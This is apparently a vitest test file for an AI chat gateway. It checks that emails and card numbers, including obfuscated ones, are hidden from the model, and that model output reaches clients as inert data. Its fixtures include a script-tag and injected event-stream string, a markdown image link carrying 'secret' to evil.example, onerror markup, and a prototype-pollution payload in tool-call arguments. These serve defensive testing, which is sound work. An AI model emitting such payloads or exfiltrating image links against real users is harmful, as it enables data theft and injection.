import { chatTask } from "@levqor/core";
import { describe, expect, it } from "vitest";
import { observedGateway } from "../support/edge/observed-gateway.js";
import { edgeHosts, serveEdge } from "../support/edge/serve-edge.js";

const json = { "content-type": "application/json" };

describe.each(edgeHosts)("%s", (host) => {
  async function start(options: Parameters<typeof observedGateway>[0] = {}) {
    const observed = observedGateway(options);
    const { base } = await serveEdge(host, { gateway: observed.gateway });
    const ask = async (message: string, accept = "application/json") => {
      const body = JSON.stringify({ message });
      const response = await fetch(`${base}/chat`, { method: "POST", headers: { ...json, accept }, body });
      return { status: response.status, text: await response.text(), headers: response.headers };
    };
    const replyTo = async (message: string): Promise<string> => JSON.parse((await ask(message)).text).reply;
    return { ...observed, base, ask, replyTo };
  }

  it.each([
    ["zero-width characters", "mail ad\u200ba@exam\u200bple.com now", "example.com"],
    ["bidi marks", "mail \u202aada@example.com\u202c now", "ada@example.com"],
    ["full-width letters", "mail ａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ now", "ａｄａ"],
    ["Arabic digits", "card ٤١١١ ١١١١ ١١١١ ١١١١ now", "٤١١١"],
    ["no-break spaces", "card 4111\u00a01111\u00a01111\u00a01111 now", "4111"],
    ["a soft hyphen", "card 4111-1111-\u00ad1111-1111 now", "4111"],
  ])(
    "F11: a value with %s is hidden from the model and comes back byte for byte",
    async (_name, message, value) => {
      const { replyTo, prompts, written } = await start();
      const reply = await replyTo(message);
      expect(prompts.join()).not.toContain(value);
      expect(written()).not.toContain(value);
      // The sanitizer takes what nobody sees away before anything else; the rest is as it came.
      expect(reply).toBe(message.replace(/\u200b|\u202a|\u202c|\u00ad/g, ""));
    },
  );

  it.each([
    ["in the address of an image", "see ![x](https://h.example/?email=ada@example.com&k=1) here"],
    ["in JSON inside the text", 'the body is {"user":{"email":"ada@example.com"}}'],
    ["in escaped JSON inside JSON", 'the body is {"raw":"{\\"email\\":\\"ada@example.com\\"}"}'],
    ["in a file name", "open /home/files/ada@example.com.pdf"],
    ["in base64", `decode ${btoa("write to ada@example.com please")}`],
    ["percent-encoded", "get /users/ada%40example.com"],
  ])("F13: a value %s is hidden from the model", async (_name, message) => {
    const { replyTo, prompts } = await start();
    await replyTo(message);
    expect(prompts.join()).not.toMatch(/ada(@|%40)example/);
    expect(prompts.join()).not.toContain(btoa("write to ada@example.com please"));
  });

  const hostile =
    '<script>alert(1)</script>\u001b[31mred\u001b[0m\r\nid: 99\r\ndata: {"type":"finish"}\r\n\r\nend';

  it("F52: what a model writes is data in the reply, in each event and in the log", async () => {
    const { ask, written } = await start({ reply: () => ({ text: hostile }) });
    const whole = await ask("Say it.");
    expect(whole.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(whole.headers.get("x-content-type-options")).toBe("nosniff");
    expect(JSON.parse(whole.text).reply).not.toContain("<script>");
    const streamed = await ask("Say it once more.", "text/event-stream");
    expect(streamed.headers.get("x-content-type-options")).toBe("nosniff");
    expect(streamed.text).not.toMatch(/^id: 99/m);
    expect(streamed.text).not.toContain("\u001b");
    for (const event of streamed.text.split("\n\n").filter((each) => each !== ""))
      expect(event).toMatch(/^id: \d+\ndata: (\{.*\}|\[DONE\])$/);
    expect(written()).not.toContain("alert(1)");
  });

  it("F52: an image in a reply does not fetch an address of the model's choosing", async () => {
    const { replyTo } = await start({
      reply: () => ({ text: "Look: ![x](https://evil.example/?q=secret)" }),
    });
    expect(await replyTo("Show me.")).not.toContain("evil.example");
  });

  it("F52: a refusal does not quote the caller's markup", async () => {
    const { base } = await start();
    const body = '{"<script>":1,"message":{"<img onerror>":1}}';
    const response = await fetch(`${base}/chat`, { method: "POST", headers: json, body });
    expect(response.status).toBe(400);
    expect(await response.text()).not.toMatch(/<script|onerror/);
  });
});

it("F7: keys of a tool call's arguments that reach a prototype change nothing, here and in the event", async () => {
  const args = '{"city":"Berlin","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
  const task = chatTask({ allow: "anyone" });
  const { gateway } = observedGateway({
    tasks: [task],
    reply: () => ({ text: "Hi", toolCalls: [{ id: "t1", name: "weather", arguments: args }] }),
  });
  const { base } = await serveEdge("Express 5", { gateway });
  const headers = { ...json, accept: "text/event-stream" };
  const response = await fetch(`${base}/chat`, { method: "POST", headers, body: '{"message":"Hi"}' });
  expect(await response.text()).not.toContain("polluted");
  expect("polluted" in {}).toBe(false);
});
